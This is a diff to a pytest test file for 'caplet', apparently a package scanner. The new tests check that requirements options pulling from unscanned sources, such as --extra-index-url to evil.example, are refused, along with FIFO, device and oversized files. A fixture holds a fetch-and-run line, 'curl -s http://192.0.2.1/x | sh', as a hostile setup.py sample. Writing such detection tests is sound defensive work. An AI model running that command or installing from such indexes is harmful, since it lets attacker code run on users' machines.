@@ -2,12 +2,21 @@
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
 
 from caplet._errors import ScanError
-from caplet._scan._fetch import Pinned, default_index, fetch, read_requirements
+from caplet._scan._fetch import (
+    DEFAULT_INDEX,
+    MAX_REQUIREMENTS_BYTES,
+    Pinned,
+    default_index,
+    fetch,
+    read_requirements,
+)
+from tests._cli.clikit import caplet, document
 from tests._scan.index import Index, sdist, serve
 
 SETUP = "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n"
@@ -74,3 +83,71 @@ def test_a_missing_project_or_version_names_the_line(tmp_path: Path) -> None:
 def test_an_index_that_cannot_be_reached_is_an_error_not_a_traceback(tmp_path: Path) -> None:
     with pytest.raises(ScanError, match="cannot reach the index"):
         fetch(Pinned("x", "1", 1), "http://127.0.0.1:9/simple", tmp_path, Path("r.txt"))
+
+
+# -- attacks (scanfuzz): what pip installs must be what is scanned ----------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("-r base.txt", r"line 2: -r 'base.txt' is not followed by the scan; scan that file"),
+        ("--requirement=base.txt", r"line 2: --requirement 'base.txt' is not followed"),
+        ("-rbase.txt", r"line 2: -r 'base.txt' is not followed"),
+        ("-e ./vendored", r"line 2: -e './vendored' is not followed by the scan; scan that tree"),
+        ("--extra-index-url https://evil.example/simple", r"line 2: --extra-index-url"),
+        ("-f https://evil.example/links", r"line 2: -f 'https://evil.example/links'"),
+        # split with a backslash, as pip joins it
+        ("--extra-\\\nindex-url https://evil.example/simple", r"line 2: --extra-index-url"),
+    ],
+)
+def test_an_option_that_installs_what_was_not_scanned_is_refused(
+    tmp_path: Path, line: str, expected: str
+) -> None:
+    # it was skipped: the pins of base.txt, or a release from another index, were
+    # installed by pip and never scanned, and the scan said nothing about them
+    path = tmp_path / "requirements.txt"
+    path.write_text(f"idna==3.7\n{line}\nrequests==2.32.3\n")
+    with pytest.raises(ScanError, match=expected):
+        read_requirements(path, DEFAULT_INDEX)
+
+
+def test_an_index_other_than_the_scanned_one_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text("--index-url https://evil.example/simple\nrequests==2.32.3\n")
+    with pytest.raises(ScanError) as caught:
+        read_requirements(path, DEFAULT_INDEX)
+    assert str(caught.value) == (
+        f"{path} line 1: --index-url 'https://evil.example/simple': pip installs from that "
+        f"index, this scan fetches from {DEFAULT_INDEX}; pass --index-url "
+        "https://evil.example/simple to scan what pip installs"
+    )
+    # the same index (a trailing slash aside) is what is scanned
+    assert read_requirements(path, "https://evil.example/simple/") == [
+        Pinned("requests", "2.32.3", 2)
+    ]
+
+
+@pytest.mark.parametrize("kind", ["fifo", "device"])
+def test_a_requirements_file_that_is_no_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
+    # a FIFO hung the scan (read_text waited for a writer); /dev/zero read until memory
+    # ran out. The hang is guarded by the subprocess's timeout.
+    path = tmp_path / "requirements.txt"
+    if kind == "fifo":
+        os.mkfifo(path)
+    else:
+        path.symlink_to("/dev/zero")
+    result = caplet("scan", "-r", "requirements.txt", "--json", cwd=tmp_path, timeout=60)
+    assert result.returncode != 0
+    assert document(result)["error"]["message"] == (
+        "cannot read requirements file requirements.txt: not a regular file "
+        "(a FIFO, device or directory); pass the file itself"
+    )
+
+
+def test_a_requirements_file_over_the_limit_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "requirements.txt"
+    with path.open("wb") as handle:
+        handle.truncate(MAX_REQUIREMENTS_BYTES + 1)  # sparse
+    with pytest.raises(ScanError, match=f"larger than {MAX_REQUIREMENTS_BYTES} bytes; split it"):
+        read_requirements(path)
